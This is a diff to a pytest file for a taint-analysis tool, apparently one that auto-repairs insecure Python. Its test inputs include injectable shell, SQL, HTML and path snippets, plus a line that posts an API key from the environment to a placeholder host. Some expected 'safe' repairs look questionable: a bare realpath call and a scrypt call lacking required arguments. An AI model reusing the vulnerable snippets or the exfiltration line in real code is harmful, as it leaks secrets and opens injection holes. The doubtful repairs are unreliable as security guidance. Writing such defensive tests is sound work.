@@ -6,7 +6,8 @@ import ast
 
 import pytest
 
-from maestro_taint.fixes.apply import Tree, repair
+from maestro_taint.fixes.apply import repair
+from maestro_taint.fixes.tree import Tree
 from maestro_taint.settings import TaintSettings
 from tests.plugins.maestro_taint.analysing import models
 
@@ -24,7 +25,7 @@ def repaired(line: str, settings: TaintSettings | None = None) -> tuple[str, lis
     ("line", "wanted"),
     [
         ("os.system('ls ' + x)  # why", "os.system('ls ' + shlex.quote(x))  # why"),
-        ("subprocess.run(f'ls {x}', shell=True)", "subprocess.run(f'ls {shlex.quote(x)}', shell=True)"),
+        ("subprocess.run(f'ls {x}', shell=True)", 'subprocess.run(["ls", x])'),
         (
             "db = sqlite3.connect('d')\ndb.execute(\"select * from t where a = '\" + x + \"'\")",
             'db.execute("select * from t where a = ?", (x,))',
@@ -34,7 +35,7 @@ def repaired(line: str, settings: TaintSettings | None = None) -> tuple[str, lis
         ("hashlib.md5(b'x')", "hashlib.sha256(b'x')"),
         ("make_response('<p>' + x)", "make_response('<p>' + html.escape(x))"),
         ("make_response('a').set_cookie('a', 'b')", "set_cookie('a', 'b', secure=True, httponly=True)"),
-        ("open(os.path.join('base', x))", "open(os.path.join('base', os.path.basename(x)))"),
+        ("open(os.path.join('base', x))", "safe_path = os.path.realpath(os.path.join('base', x))"),
     ],
 )
 def test_a_safe_repair_is_kept(line: str, wanted: str) -> None:
@@ -65,7 +66,13 @@ def test_an_unsafe_repair_is_refused_with_a_reason_and_nothing_changes(line: str
 
 
 def test_secrets_are_redacted_by_the_projects_own_function_only() -> None:
-    line = "logging.info('key %s', os.environ['APP_API_KEY'])"
-    assert repaired(line)[1][0][0] == "refused"
-    text, outcomes = repaired(line, TaintSettings(redactor="re.escape"))
-    assert "re.escape(os.environ" in text or outcomes[0][0] == "failed"
+    """Without one, a log line says "[redacted]"; what else receives the value may need it."""
+    line = "logging.info('key %s of %s', os.environ['APP_API_KEY'], 'me')"
+    text, outcomes = repaired(line)
+    assert outcomes == [("verified", "V5")]
+    assert """logging.info('key %s of %s', "[redacted]", 'me')""" in text
+    text, outcomes = repaired(line, TaintSettings(redactor="hashlib.scrypt"))
+    assert outcomes == [("verified", "V5")]
+    assert "hashlib.scrypt(os.environ['APP_API_KEY'])" in text
+    sent = "import requests\nrequests.post('https://x.example', data=os.environ['APP_API_KEY'])"
+    assert repaired(sent)[1][0][0] == "refused"
